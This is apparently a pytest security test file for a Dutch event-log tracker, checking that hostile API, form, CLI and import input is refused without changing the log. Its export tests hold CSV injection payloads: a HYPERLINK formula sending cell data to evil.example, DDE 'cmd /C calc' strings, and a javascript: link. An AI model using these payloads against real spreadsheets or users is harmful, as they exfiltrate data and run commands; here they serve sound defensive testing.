"""Hostile input at every edge (API, pages, command line, import): each payload is answered 4xx (or refused by
the command) with a Dutch message naming what was wrong and what is allowed; nothing is written and the log still
verifies. `make test` runs this on SQLite and again on PostgreSQL."""
from __future__ import annotations

import csv
import html
import io
import json
import re

import pytest
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError

from tests.integration.test_import_rules import crafted
from tracker.domain.errors import DefinitionError, TrackerError
from tracker.services import accounts, integrity, queries, transfer
from tracker.services.definitions import load_registry
from tracker.storage import event_store

ITEM = "munitiebeheer-a10"
EVENTS = f"/api/v1/items/{ITEM}/events"


@pytest.fixture
def admin(as_role):
    return as_role("beheerder")


@pytest.fixture
def untouched(api_app):
    """Call it at the end of a test: the log is as it was, and it verifies."""
    tracker = api_app.extensions["tracker"]
    before = queries.chain_head(tracker)

    def check():
        assert queries.chain_head(tracker) == before, "something was written"
        assert integrity.verify(tracker).ok
    return check


def send(admin, path, body, **headers):
    """A raw JSON body (so that it can hold what json.dumps would never write)."""
    return admin.client.post(path, data=body, headers=admin.headers({"Content-Type": "application/json", **headers}))


def refused(response, status, *words):
    assert response.status_code == status, (response.status_code, response.get_data(as_text=True)[:500])
    message = response.json["message"] if response.is_json else html.unescape(response.get_data(as_text=True))
    for word in words:
        assert word in message, (word, message)
    return message


def correction(admin, key, data):
    body = {"type": "gegevens_gewijzigd", "data": {"toelichting": "Aanval", **data}}
    return admin.post(f"/api/v1/items/{key}/events", json=body, headers={"If-Match": admin.version(key)})


# --- progress labels: only {done} and {total} ---------------------------------------------------------------

@pytest.mark.parametrize("label", ["{", "}", "{total:>5000000}", "{done.__class__.__mro__}", "{0}", "{done!r}",
                                   "{done} van {totaal}", "{{done}}"])
def test_a_progress_label_with_any_other_placeholder_is_refused(admin, untouched, label):
    message = refused(correction(admin, "onvolkomenheden", {"voortgangslabel": label}), 422, "{done}", "{total}")
    assert "alleen" in message
    untouched()


def test_a_plain_progress_label_still_works(admin, api_app):
    response = correction(admin, "onvolkomenheden", {"voortgangslabel": "{done}/{total} opgelost, {done} klaar"})
    assert response.status_code == 201
    topic = admin.get("/api/v1/items/onvolkomenheden").json
    done, total = topic["progress"]["done"], topic["progress"]["total"]
    assert topic["progress"]["label"] == f"{done}/{total} opgelost, {done} klaar"
    assert integrity.verify(api_app.extensions["tracker"]).ok


@pytest.mark.parametrize("label", ["{", "{total:>5000000}", "{done.__class__.__mro__}"])
def test_a_definition_with_another_placeholder_stops_start_up(tmp_path, label):
    from tracker import PROJECT_ROOT

    for path in (PROJECT_ROOT / "workflows").glob("*.toml"):
        (tmp_path / path.name).write_text(path.read_text(encoding="utf-8"), encoding="utf-8")
    thema = tmp_path / "thema.toml"
    original = thema.read_text(encoding="utf-8")
    assert 'label = "{done} van {total} onderdelen gereed"' in original
    thema.write_text(original.replace('label = "{done} van {total} onderdelen gereed"',
                                      f"label = {json.dumps(label)}"), encoding="utf-8")
    with pytest.raises(DefinitionError, match=r"thema\.toml: progress\.label: alleen de plaatshouders"):
        load_registry(tmp_path)


# --- one set of limits for every text, before the database ---------------------------------------------------

def new_item(admin, key, **data):
    body = {"type": "aangemaakt", "data": {"kind": "aanbeveling", "title": "Nieuw", "parent": "munitiebeheer",
                                           **data}}
    from urllib.parse import quote

    return admin.post(f"/api/v1/items/{quote(key, safe='')}/events", json=body, headers={"If-None-Match": "*"})


def test_a_title_over_500_characters_is_refused(admin, untouched):
    refused(new_item(admin, "nieuw-lang", title="T" * 501), 422, "501", "hoogstens 500")
    refused(correction(admin, ITEM, {"title": "T" * 501}), 422, "hoogstens 500")
    untouched()


def test_a_title_of_500_characters_is_stored(admin):
    assert new_item(admin, "nieuw-precies", title="T" * 500).status_code == 201


@pytest.mark.parametrize("field", ["toelichting", "plan_van_aanpak"])
def test_any_other_text_over_10000_characters_is_refused(admin, untouched, field):
    refused(correction(admin, "munitiebeheer", {field: "x" * 10_001}), 422, "10000")
    untouched()


@pytest.mark.parametrize("key", ["k" * 101, "munitiebeheer-a11\n", "nieuw\n", "nieuw\r\n", "\nnieuw"])
def test_an_item_key_must_match_to_the_very_end(admin, untouched, key):
    response = new_item(admin, key)
    assert 400 <= response.status_code < 500, response.json
    untouched()


@pytest.mark.parametrize("query", ["parent=munitiebeheer%0A", "topic=onvolkomenheden%0A", "parent=" + "p" * 101])
def test_an_item_key_in_a_filter_must_match_to_the_very_end(admin, query):
    refused(admin.get(f"/api/v1/items?{query}"), 422)


def test_a_key_with_a_trailing_newline_is_no_item(admin):
    assert admin.get("/api/v1/items/munitiebeheer-a10%0A").status_code == 404
    assert admin.get("/api/v1/items/munitiebeheer-a10%0A/graph").status_code == 404


def test_an_idempotency_key_over_150_characters_is_refused(admin, untouched):
    body = {"type": "opmerking", "data": {"toelichting": "x"}}
    response = admin.post(EVENTS, json=body, headers={"If-Match": admin.version(ITEM), "Idempotency-Key": "k" * 151})
    refused(response, 400, "Idempotency-Key", "151", "150")
    untouched()


def test_the_command_refuses_an_idempotency_key_over_150_characters(api_app, untouched):
    result = api_app.test_cli_runner().invoke(args=["record", ITEM, "opmerking", "--set", "toelichting=x",
                                                    "--als", "beheerder", "--idempotency-key", "k" * 151])
    assert result.exit_code == 1 and "1 tot 150 tekens" in result.output and "Traceback" not in result.output
    untouched()


def test_an_account_name_over_100_characters_is_refused(api_app, untouched):
    result = api_app.test_cli_runner().invoke(args=["user", "create", "a" * 101, "--role", "lezer"])
    assert result.exit_code == 1 and "1 tot 100 tekens" in result.output and "Traceback" not in result.output
    assert accounts.get(api_app.extensions["tracker"], "a" * 101) is None
    untouched()


@pytest.mark.parametrize("password", ["kort-11-tkn", "w" * 201])
def test_a_password_outside_12_to_200_characters_is_refused_by_the_command(api_app, password):
    result = api_app.test_cli_runner().invoke(args=["user", "password", "lezer"], input=password + "\n")
    assert result.exit_code == 1 and "12 tot 200 tekens" in result.output


def test_the_sign_in_form_refuses_a_password_over_200_characters(api_app):
    api_app.config["WTF_CSRF_ENABLED"] = False
    response = api_app.test_client().post("/aanmelden", data={"name": "lezer", "password": "w" * 201})
    refused(response, 422, "12 tot 200 tekens")


# --- numbers: ASCII digits, no underscores, no NaN or infinity, at most 30 characters -----------------------------

@pytest.mark.parametrize(("field", "value"), [
    ("jaar", "20_25"), ("jaar", "٢٠٢٥"), ("score", "٣"), ("score", "3,5\u0661"), ("score", "NaN"), ("score", "nan"),
    ("score", "inf"), ("score", "Infinity"), ("score", "-Infinity"), ("score", "1e400"), ("score", "3" + "0" * 30),
    ("score", "3." + "0" * 29), ("jaar", 10 ** 35), ("jaar", "²⁰²⁵"),
])
def test_a_number_that_is_no_plain_number_is_refused(admin, untouched, field, value):
    message = refused(correction(admin, "ooo-koninklijke-marine", {field: value}), 422)
    assert "verwacht" in message.lower()
    untouched()


@pytest.mark.parametrize("constant", ["NaN", "Infinity", "-Infinity"])
def test_json_nan_and_infinity_are_refused_while_parsing(admin, untouched, constant):
    body = '{"type": "gegevens_gewijzigd", "data": {"toelichting": "x", "score": ' + constant + "}}"
    key = "ooo-koninklijke-marine"
    response = send(admin, f"/api/v1/items/{key}/events", body, **{"If-Match": admin.version(key)})
    refused(response, 400, constant, "geen getal")
    untouched()


def test_a_json_integer_of_more_than_4300_digits_is_400_not_500(admin, untouched):
    body = '{"type": "gegevens_gewijzigd", "data": {"toelichting": "x", "jaar": %s}}' % ("1" * 5000)
    key = "ooo-koninklijke-marine"
    response = send(admin, f"/api/v1/items/{key}/events", body, **{"If-Match": admin.version(key)})
    refused(response, 400, "4300 cijfers")
    untouched()


# --- idempotency keys belong to their account ------------------------------------------------------------------

def account_client(api_app, as_role, name):
    tracker = api_app.extensions["tracker"]
    accounts.create(tracker, name, "beheerder")
    client = as_role("beheerder")
    client.token = accounts.new_token(tracker, name)
    return client


def remark(client, key, version=None):
    return client.post(EVENTS, json={"type": "opmerking", "data": {"toelichting": "Herhaalbaar"}},
                       headers={"If-Match": version or client.version(ITEM), "Idempotency-Key": key})


def test_the_same_key_text_from_two_accounts_is_two_requests(api_app, as_role):
    p, pq = account_client(api_app, as_role, "p"), account_client(api_app, as_role, "p:q")
    first = remark(p, "q:k1")
    assert first.status_code == 201 and first.json["idempotency_account"] == "p"
    second = remark(pq, "k1")
    assert second.status_code == 201 and second.json["seq"] != first.json["seq"]
    assert (second.json["idempotency_account"], second.json["idempotency_key"]) == ("p:q", "k1")
    again = remark(p, "q:k1", first.headers["ETag"])  # a retry of the first: its answer, nothing written
    assert again.status_code == 201 and again.json["seq"] == first.json["seq"]
    tracker = api_app.extensions["tracker"]
    assert queries.chain_head(tracker)["events"] == second.json["seq"]
    assert integrity.verify(tracker).ok


def test_a_55_character_account_may_send_a_150_character_key(api_app, as_role):
    client = account_client(api_app, as_role, "a" * 55)
    response = remark(client, "k" * 150)
    assert response.status_code == 201, response.json
    assert remark(client, "k" * 150, response.headers["ETag"]).json["seq"] == response.json["seq"]
    assert integrity.verify(api_app.extensions["tracker"]).ok


def test_an_export_with_accounts_imports_with_the_same_head(api_app, as_role, tracker):
    remark(account_client(api_app, as_role, "p"), "q:k1")
    out = io.StringIO()
    header = transfer.export(api_app.extensions["tracker"], out)
    assert '"idempotency_account":"p"' in out.getvalue()
    assert transfer.import_(tracker, io.StringIO(out.getvalue()))["head"] == header["head"]
    assert integrity.verify(tracker).ok


def test_an_import_with_a_title_over_500_characters_names_the_line(api_app, tracker):
    out = io.StringIO()
    transfer.export(api_app.extensions["tracker"], out)
    export, line = crafted(out.getvalue(), dict(item="nieuw-lang", type="aangemaakt", version=1, actor="beheer",
                                                data={"kind": "aanbeveling", "title": "T" * 501,
                                                      "parent": "munitiebeheer"}))
    with pytest.raises(TrackerError, match=f"^Regel {line}\\b.*hoogstens 500 tekens"):
        transfer.import_(tracker, io.StringIO(export))
    with tracker.read() as connection:
        assert event_store.count(connection) == 0


@pytest.mark.parametrize("header", [{"format": "tracker-export", "version": 1},
                                    {"format": "tracker-export", "version": 1, "events": "12", "head": "0" * 64}])
def test_an_import_header_without_a_count_is_refused_by_the_command(runner, tmp_path, header):
    source = tmp_path / "export.jsonl"
    source.write_text(json.dumps(header) + "\n", encoding="utf-8")
    result = runner.invoke(args=["import", str(source)])
    assert result.exit_code == 1 and "'events'" in result.output and "Traceback" not in result.output


# --- corrupt rows are named by verify and export, never a traceback ----------------------------------------------

@pytest.mark.parametrize(("column", "value", "words"), [("occurred_on", "gisteren", "geen datum"),
                                                         ("version", "drie", "geen getal"),
                                                         ("recorded_at", "ooit", "geen tijdstip")])
def test_verify_names_an_event_whose_stored_value_cannot_be_read(api_app, column, value, words):
    tracker = api_app.extensions["tracker"]
    if tracker.engine.dialect.name != "sqlite":  # PostgreSQL's column types refuse such a value outright
        with pytest.raises(DBAPIError), tracker.write() as connection:
            connection.execute(text(f"UPDATE events SET {column} = :value WHERE seq = 7"), {"value": value})
        assert integrity.verify(tracker).ok
        return
    with tracker.write() as connection:
        connection.execute(text(f"UPDATE events SET {column} = :value WHERE seq = 7"), {"value": value})
    result = integrity.verify(tracker)
    assert not result.ok and result.first_bad_seq == 7
    assert any(seq == 7 and words in message for seq, message in result.problems), result.problems
    runner = api_app.test_cli_runner()
    verified = runner.invoke(args=["verify"])
    assert verified.exit_code == 1 and "Gebeurtenis 7" in verified.output and "Traceback" not in verified.output
    exported = runner.invoke(args=["export", "--output", "-"])
    assert exported.exit_code == 1 and "Gebeurtenis 7" in exported.output and "Traceback" not in exported.output


# --- a peildatum the log cannot answer for -----------------------------------------------------------------------

def signed_in(api_app, name="web-beheerder"):
    """A browser signed in as a beheerder of its own (a new password would revoke the API accounts' tokens)."""
    tracker = api_app.extensions["tracker"]
    if accounts.get(tracker, name) is None:
        accounts.create(tracker, name, "beheerder")
    accounts.set_password(tracker, name, "een-lang-wachtwoord")
    api_app.config["WTF_CSRF_ENABLED"] = False
    client = api_app.test_client()
    assert client.post("/aanmelden", data={"name": name, "password": "een-lang-wachtwoord"}).status_code == 302
    return client


FIRST = "vóór de eerste gebeurtenis"
LAST = "na 2100-12-31"
DAYS = [("0001-01-01", FIRST), ("0001-12-31", FIRST), ("0002-01-01", FIRST), ("9999-12-31", LAST),
        ("2101-01-01", LAST)]
PAGES = ["/", "/thema/onvolkomenheden", f"/item/{ITEM}", f"/item/{ITEM}/graaf", "/rapporten/onvolkomenheden",
         "/rapporten/onvolkomenheden.csv", "/rapporten/cio-oordelen.xlsx", "/rapporten/nigs.md"]


@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize(("day", "words"), DAYS)
def test_every_page_refuses_a_peildatum_outside_the_log(api_app, untouched, page, day, words):
    response = signed_in(api_app).get(f"{page}?peildatum={day}")
    refused(response, 422, f"Peildatum {day}", words, "kies een datum")
    untouched()


@pytest.mark.parametrize("page", ["/", "/thema/onvolkomenheden", "/rapporten/onvolkomenheden"])
@pytest.mark.parametrize("day", ["2025-02-30", "10000-01-01", "morgen", "2025-1-1x"])
def test_every_page_refuses_a_peildatum_that_is_no_date(api_app, page, day):
    refused(signed_in(api_app).get(f"{page}?peildatum={day}"), 400, "geen geldige datum", "JJJJ-MM-DD")


def test_the_bekend_op_date_is_checked_too(api_app):
    refused(signed_in(api_app).get("/rapporten/onvolkomenheden?bekend_op=0001-01-01"), 422, "Bekend op 0001-01-01",
            FIRST)


def test_the_first_day_of_the_log_itself_is_a_peildatum(api_app):
    first = event_store.first_day(api_app.extensions["tracker"].engine)
    assert signed_in(api_app).get(f"/?peildatum={first.isoformat()}").status_code == 200


@pytest.mark.parametrize("path", ["/api/v1/items", f"/api/v1/items/{ITEM}", f"/api/v1/items/{ITEM}/graph",
                                  "/api/v1/reports/onvolkomenheden", "/api/v1/reports/cio-oordelen?format=csv&x=",
                                  "/api/v1/reports/open-op-orde?format=md&x="])
@pytest.mark.parametrize(("day", "words"), DAYS)
def test_every_endpoint_refuses_a_peildatum_outside_the_log(admin, untouched, path, day, words):
    path = path.replace("&x=", "")
    separator = "&" if "?" in path else "?"
    refused(admin.get(f"{path}{separator}peildatum={day}"), 422, f"Peildatum {day}", words)
    untouched()


def test_the_api_checks_bekend_op_too(admin):
    refused(admin.get("/api/v1/reports/onvolkomenheden?bekend_op=9999-12-31"), 422, "Bekend op 9999-12-31", LAST)


@pytest.mark.parametrize("args", [["items", "--peildatum", "0001-01-01"], ["items", "--peildatum", "9999-12-31"],
                                  ["graph", ITEM, "--peildatum", "0002-01-01"],
                                  ["report", "onvolkomenheden", "--peildatum", "0001-12-31"],
                                  ["report", "nigs", "--bekend-op", "9999-12-31"],
                                  ["vaststellen", "onvolkomenheden", "--peildatum", "0001-01-01",
                                   "--als", "beheerder"]])
def test_every_command_refuses_a_peildatum_outside_the_log(api_app, untouched, args):
    result = api_app.test_cli_runner().invoke(args=args)
    assert result.exit_code == 1, result.output
    assert ("eerste gebeurtenis" in result.output or "2100-12-31" in result.output) and "Traceback" not in result.output
    untouched()


# --- other requests that used to be answered 500 -------------------------------------------------------------

@pytest.mark.parametrize("tag", ['"²"', '"³"', '"١"', '"0x1"', '"1_0"', '"1234567890"', '" 1"', '"-1"'])
def test_an_if_match_that_is_no_plain_version_is_400(admin, untouched, tag):
    response = admin.post(EVENTS, json={"type": "opmerking", "data": {"toelichting": "x"}}, headers={"If-Match": tag})
    refused(response, 400, "If-Match", "cijfers 0-9")
    untouched()


@pytest.mark.parametrize("version", ["²", "١", "2_0", "-2", "9999999999"])
def test_a_form_version_that_is_no_plain_number_is_refused(api_app, untouched, version):
    response = signed_in(api_app).post(f"/item/{ITEM}/vastleggen", data={
        "event": "opmerking", "version": version, "veld-toelichting": "Via het formulier"})
    refused(response, 422, f"Versie '{version}'", "cijfers 0-9")
    untouched()


@pytest.mark.parametrize("csrf", [True, False])
@pytest.mark.parametrize("body", ["name=%00&password=een-lang-wachtwoord", "name=beheer%00der&password=x",
                                  "name=lezer&password=%00%00%00%00%00%00%00%00%00%00%00%00"])
def test_a_nul_in_the_sign_in_form_is_400(api_app, untouched, csrf, body):
    api_app.config["WTF_CSRF_ENABLED"] = csrf
    response = api_app.test_client().post("/aanmelden", data=body,
                                          headers={"Content-Type": "application/x-www-form-urlencoded"})
    refused(response, 400, "NUL")
    untouched()


# --- what the exports write: text stays text --------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"klik")', "+31 6 12345678", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_exports_write_a_formula_as_text(api_app, admin, formula):
    assert correction(admin, "munitiebeheer", {"plan_van_aanpak": formula}).status_code == 201
    client = signed_in(api_app)
    for response, delimiter in ((client.get("/rapporten/onvolkomenheden.csv"), ";"),
                                (client.get("/rapporten/onvolkomenheden.csv?vorm=internationaal"), ","),
                                (admin.get("/api/v1/reports/onvolkomenheden?format=csv"), ";"),
                                (admin.get("/api/v1/reports/onvolkomenheden?format=csv&vorm=internationaal"), ",")):
        assert response.status_code == 200
        text = response.get_data(as_text=True).lstrip("\ufeff")
        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
        assert next(row for row in rows if row and row[0] == "Munitiebeheer")[1] == "'" + formula
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(client.get("/rapporten/onvolkomenheden.xlsx").data))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    planned = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(formula)]
    assert planned and all(cell.data_type == "s" for cell in planned)
    assert integrity.verify(api_app.extensions["tracker"]).ok


def test_csv_escapes_every_formula_start_but_keeps_numbers():
    from datetime import date

    from tracker.services.report_formats import as_csv
    from tracker.services.reports.table import Table

    values = ["=1", "+1", "-a", "@a", "\tx", "\rx", "-3", "-2,5", "-1.5", "gewoon", -3, 2.5]
    table = Table("t", "T", date(2025, 1, 1), [{f"k{i}": v for i, v in enumerate(values)}], [], [])
    written = list(csv.reader(io.StringIO(as_csv(table), newline="")))[1]
    # A carriage return that starts a cell is escaped too, and written as the line break it is (quoted).
    assert written == ["'=1", "'+1", "'-a", "'@a", "'\tx", "'\nx", "-3", "-2,5", "-1.5", "gewoon", "-3", "2.5"]


def test_markdown_keeps_a_cell_on_one_line_without_an_image_or_a_link(api_app, admin):
    from markdown_it import MarkdownIt

    plan = "regel een\nregel twee ![x](http://evil.example/p.png) [klik](javascript:alert(1)) <img src=x> | <b>"
    assert correction(admin, "munitiebeheer", {"plan_van_aanpak": plan}).status_code == 201
    for response in (admin.get("/api/v1/reports/onvolkomenheden?format=md"),
                     signed_in(api_app).get("/rapporten/onvolkomenheden.md")):
        document = response.get_data(as_text=True)
        rows = [line for line in document.splitlines() if line.startswith("| Munitiebeheer")]
        assert len(rows) == 1 and "regel twee" in rows[0]
        assert rows[0].count(" | ") == document.splitlines()[2].count(" | ")  # as many cells as the header
        rendered = MarkdownIt("commonmark").enable("table").render(document)
        assert "<img" not in rendered and "<a " not in rendered and "<b>" not in rendered
        assert "![x](http://evil.example/p.png)" in html.unescape(rendered)  # shown as typed


# --- headers, health and what the pages load ----------------------------------------------------------------------

def test_exports_and_api_answers_are_not_stored_by_caches(api_app, admin):
    client = signed_in(api_app)
    for path in ("/rapporten/onvolkomenheden.csv", "/rapporten/onvolkomenheden.xlsx", "/rapporten/onvolkomenheden.md"):
        response = client.get(path)
        assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store", path
    for path in ("/api/v1/items", f"/api/v1/items/{ITEM}", "/api/v1/chain", "/api/v1/topics", "/api/v1/openapi.json",
                 "/api/v1/reports/nigs?format=csv", "/api/v1/items/bestaat-niet"):
        assert admin.get(path).headers["Cache-Control"] == "no-store", path
    assert "no-store" in admin.post(EVENTS, json={}).headers["Cache-Control"]


def test_healthz_tells_an_anonymous_caller_only_that_it_is_up(api_app, admin):
    assert api_app.test_client().get("/healthz").get_json() == {"status": "ok"}
    details = api_app.test_client().get("/healthz", headers=admin.headers()).get_json()
    assert details["status"] == "ok" and details["events"] > 0 and len(details["head"]) == 64
    assert signed_in(api_app).get("/healthz").get_json()["events"] == details["events"]


URL = re.compile(r"""(?:src|href|action|content)\s*=\s*["']?\s*(?:https?:)?//""", re.IGNORECASE)


def test_no_page_refers_to_another_origin(api_app, admin):
    client = signed_in(api_app)
    pages = PAGES + ["/rapporten", "/meldingen", "/api/v1/docs", "/bestaat-niet", "/?peildatum=0001-01-01"]
    anonymous = ["/aanmelden", "/api/v1/docs"]
    for path, response in [(p, client.get(p)) for p in pages] + [(p, api_app.test_client().get(p)) for p in anonymous]:
        if response.mimetype != "text/html":
            continue
        body = response.get_data(as_text=True)
        assert not URL.findall(body), (path, URL.findall(body))
        policy = response.headers["Content-Security-Policy"]
        assert "http" not in policy and "cdn" not in policy, (path, policy)


def test_swagger_ui_is_served_by_the_app(api_app):
    client = api_app.test_client()
    page = client.get("/api/v1/docs").get_data(as_text=True)
    sources = re.findall(r"""(?:src|href)="([^"]+)\"""", page)
    assert "/vendor/swagger-ui/swagger-ui-bundle.js" in sources and "/vendor/swagger-ui/swagger-ui.css" in sources
    for source in sources:
        assert client.get(source).status_code == 200, source
    assert client.get("/vendor/rhc-tokens/index.js").status_code == 404  # scripts only from Swagger UI's package
    assert client.get("/vendor/swagger-ui/../package.json").status_code == 404
